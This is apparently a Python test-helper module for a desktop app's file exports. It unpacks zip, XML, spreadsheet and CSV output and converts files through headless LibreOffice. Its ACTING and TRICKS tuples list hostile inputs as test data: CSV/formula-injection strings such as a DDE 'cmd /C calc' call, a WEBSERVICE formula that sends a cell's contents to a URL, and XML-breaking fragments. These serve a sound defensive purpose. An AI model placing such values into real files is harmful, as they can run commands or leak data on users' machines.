"""Looks into exported files: as zips, as XML, as spreadsheets and documents, and through LibreOffice."""

import csv
import shutil
import subprocess
from collections.abc import Iterable, Iterator
from dataclasses import replace
from datetime import timedelta
from io import BytesIO, StringIO
from itertools import pairwise
from pathlib import Path
from zipfile import ZipFile, is_zipfile

import pytest
from lxml import etree
from openpyxl import load_workbook

from leda_desktop.domain.rundown import Row, RowStatus
from leda_desktop.domain.summary import ActivitySummary, SessionSummary
from leda_desktop.exchange.outgoing import Format, export
from leda_desktop.texts import Language, Texts
from tests.documents.sessions import session
from tests.gallery.pages import HOSTILE

SV = Texts.load(Language.SV)
EN = Texts.load(Language.EN)
ACTING = (
    "=1+1",
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\uff1d1+1",
    "\uff0b1",
    "\uff20SUM(1)",
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    " =1+1",
    '=HYPERLINK("https://exempel.se";"klicka")',
    '=WEBSERVICE("https://exempel.se/"&A1)',
)
"""What a spreadsheet would do something with."""
TRICKS = (
    *ACTING,
    "<r><t>rik text</t></r>",
    "<r></si></sst>",
    "_x0041_ är inget A",
    "]]><w:p/>&#0; <!--",
    '"; "citat";\'',
    "https://exempel.se",
    "mailto:ada@exempel.se",
    '{HYPERLINK "https://exempel.se"}',
    "1/2",
    "0046",
    "1e5",
    "\ud800ensam",
    "TRUE",
)
"""What a program could take for something else than text."""
NASTY = (*HOSTILE, *TRICKS)


def held(*activities: ActivitySummary) -> SessionSummary:
    """A session in which these activities took ten minutes each."""
    summary = session(*activities)
    start = summary.session.starts_at
    times = [start + timedelta(minutes=10 * number) for number in range(len(activities) + 1)]
    rows = tuple(
        Row(brought.activity, RowStatus.DONE, begin, end, begin, end, begin, end)
        for brought, (begin, end) in zip(activities, pairwise(times), strict=True)
    )
    return replace(summary, rundown=replace(summary.rundown, rows=rows))


def made(form: Format, summary: SessionSummary, texts: Texts = SV) -> bytes:
    """The file of a session."""
    return export(form, summary, texts)


def contents(data: bytes) -> dict[str, bytes]:
    """The files in a zip, or the data itself."""
    if not is_zipfile(BytesIO(data)):
        return {"": data}
    with ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def everything_in(data: bytes) -> str:
    """All that stands in a file, unpacked, with the names in it; what XML escapes is read, what it parts is joined."""
    return "\n".join(f"{name}\n{_read(name, content)}" for name, content in contents(data).items())


def _read(name: str, content: bytes) -> str:
    raw = content.decode("utf-8", "replace")
    if not name.endswith((".xml", ".rels")):
        return raw
    root = etree.fromstring(content)
    values = [str(value) for element in root.iter() for value in element.attrib.values()]
    return "\n".join((raw, "".join(map(str, root.itertext())), *values))


def tags_in(data: bytes) -> set[str]:
    """The local names of all elements of all XML in a zip."""
    found = (
        etree.fromstring(part).iter("*") for name, part in contents(data).items() if name.endswith((".xml", ".rels"))
    )
    return {etree.QName(element).localname for elements in found for element in elements}


def sheets_of(data: bytes) -> dict[str, list[list[object]]]:
    """The cells of each sheet."""
    book = load_workbook(BytesIO(data))
    return {sheet.title: [[cell.value for cell in row] for row in sheet.iter_rows()] for sheet in book.worksheets}


def cells_of(data: bytes) -> Iterator[str]:
    """Every text in a spreadsheet."""
    return (value for rows in sheets_of(data).values() for row in rows for value in row if isinstance(value, str))


def csv_rows(data: bytes, title: str, separator: str = ";") -> list[list[str]]:
    """The fields of the CSV file of a table."""
    return rows_of(next(file for name, file in contents(data).items() if name.endswith(f" {title}.csv")), separator)


def rows_of(content: bytes, separator: str = ";") -> list[list[str]]:
    """The fields of a CSV file."""
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator))


def flat(texts: Iterable[str]) -> str:
    """All words with nothing between them that a program may have added, dropped or broken."""
    return "".join("".join(texts).split())


def converted(files: dict[str, bytes], kind: str, folder: Path, *, reading: str = "") -> dict[str, Path]:
    """What LibreOffice makes of files, in one go, by name; skipped where it is missing."""
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed")
    for name, data in files.items():
        (folder / name).write_bytes(data)
    options = [f"-env:UserInstallation={(folder / 'home').as_uri()}", "--headless", "--norestore"]
    filters = [f"--infilter={reading}"] if reading else []
    command = [office, *options, *filters, "--convert-to", kind, "--outdir", str(folder / "out")]
    subprocess.run([*command, *(str(folder / name) for name in files)], check=True, capture_output=True, timeout=150)
    return {path.name: path for path in (folder / "out").iterdir()}
